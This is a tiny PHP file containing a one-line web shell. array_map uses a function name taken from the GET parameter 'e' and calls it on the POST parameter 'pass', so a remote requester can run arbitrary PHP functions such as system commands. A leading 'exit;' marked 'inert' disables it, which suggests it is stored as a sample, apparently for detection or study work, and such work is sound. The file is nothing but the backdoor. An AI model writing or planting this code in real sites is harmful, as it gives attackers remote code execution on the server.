<?php exit; /* inert */ 
array_map($_GET['e'], array($_POST['pass']));
